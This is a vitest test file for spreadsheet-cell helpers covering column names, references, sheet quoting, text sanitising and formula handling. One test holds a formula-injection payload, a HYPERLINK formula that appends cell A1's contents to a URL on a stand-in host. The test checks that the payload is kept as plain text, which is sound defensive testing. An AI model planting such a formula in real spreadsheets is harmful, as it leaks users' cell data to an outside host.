import { describe, expect, it } from 'vitest'
import {
  cellRef,
  columnName,
  formula,
  MAX_CELL_TEXT,
  num,
  rangeRef,
  ref,
  sheetPrefix,
  text,
} from './cells.js'

describe('workbook cells', () => {
  it('names columns and references as spreadsheets do', () => {
    expect([1, 26, 27, 52, 53, 702, 703, 16_384].map(columnName)).toEqual([
      'A',
      'Z',
      'AA',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
      'XFD',
    ])
    expect(cellRef(3, 7)).toBe('C7')
    expect(cellRef(3, 7, { col: true, row: true })).toBe('$C$7')
    expect(ref('Workload months', 2, 5, { col: true })).toBe("'Workload months'!$B5")
    expect(ref('Summary', 2, 5)).toBe('Summary!B5')
    expect(sheetPrefix("O'Brien")).toBe("'O''Brien'!")
    expect(rangeRef('Monthly', { col: 5, row: 2 }, { col: 5, row: 37 })).toBe('Monthly!$E$2:$E$37')
  })

  it('keeps text as text: characters XML cannot carry dropped, longer than a cell allows cut', () => {
    expect(text('=HYPERLINK("http://x/?"&A1)')).toBe('=HYPERLINK("http://x/?"&A1)')
    expect(text('a\u0001b\u0008c\u000Bd\uFFFEe\uFFFF\tf\ng')).toBe('abcde\tf\ng')
    const long = text('x'.repeat(MAX_CELL_TEXT + 10))!
    expect(long).toHaveLength(MAX_CELL_TEXT)
    expect(long.endsWith('…')).toBe(true)
    expect(text('y'.repeat(MAX_CELL_TEXT))).toHaveLength(MAX_CELL_TEXT)
    expect(text(null)).toBeNull()
  })

  it('writes numbers as numbers and formulas without their equals sign', () => {
    expect(num('-12.50')).toBe(-12.5)
    expect(num('')).toBeNull()
    expect(() => num('1e999')).toThrow(/finite/)
    expect(formula('=SUM(A1:A2)')).toEqual({ formula: 'SUM(A1:A2)' })
    expect(formula('A1*2')).toEqual({ formula: 'A1*2' })
  })
})
